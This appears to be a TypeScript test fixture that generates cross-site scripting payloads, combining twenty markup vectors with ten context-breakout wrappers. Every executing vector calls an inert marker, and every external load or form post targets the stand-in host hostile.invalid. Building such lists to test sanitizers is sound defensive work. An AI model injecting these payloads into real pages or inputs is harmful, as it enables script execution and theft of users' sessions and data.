/** Texts that run a script, or load something, in a page that takes them for markup. Each one that runs calls `hostile()`. */

const CALL = 'hostile()';
const ELSEWHERE = 'http://hostile.invalid';

const MARKUP = [
  `<script>${CALL}</script>`,
  `<img src=x onerror=${CALL}>`,
  `<img src="${ELSEWHERE}/beacon.png">`,
  `<svg onload=${CALL}>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<iframe src="javascript:parent.${CALL}"></iframe>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<a href="javascript:${CALL}">x</a>`,
  `<details open ontoggle=${CALL}>`,
  `<input autofocus onfocus=${CALL}>`,
  `<video><source onerror=${CALL}></video>`,
  `<body onload=${CALL}>`,
  `<link rel=stylesheet href="${ELSEWHERE}/a.css">`,
  `<style>@import "${ELSEWHERE}/b.css";</style>`,
  `<meta http-equiv=refresh content="0;url=${ELSEWHERE}">`,
  `<base href="${ELSEWHERE}/">`,
  `<object data="javascript:${CALL}"></object>`,
  `<form action="${ELSEWHERE}"><button autofocus>x`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}>`,
];

/** How a text breaks out of where it was put: an attribute, a script, a style, a comment, JSON, a template, a link, Markdown. */
const BREAKOUTS = [
  (markup: string) => markup,
  (markup: string) => `">${markup}`,
  (markup: string) => `'>${markup}`,
  (markup: string) => `</script>${markup}`,
  (markup: string) => `</style></title></textarea>${markup}`,
  (markup: string) => `--><!-- -->${markup}`,
  (markup: string) => `{{constructor.constructor('${CALL}')()}}${markup}`,
  (markup: string) => `\u202e\u2028${markup}`,
  (markup: string) => `![x](${ELSEWHERE}/md.png) [y](javascript:${CALL}) ${markup}`,
  (markup: string) => markup.replaceAll('<', '&lt;').concat(markup.toUpperCase()),
];

export const XSS_PAYLOADS: readonly string[] = BREAKOUTS.flatMap((breakOut) => MARKUP.map(breakOut));
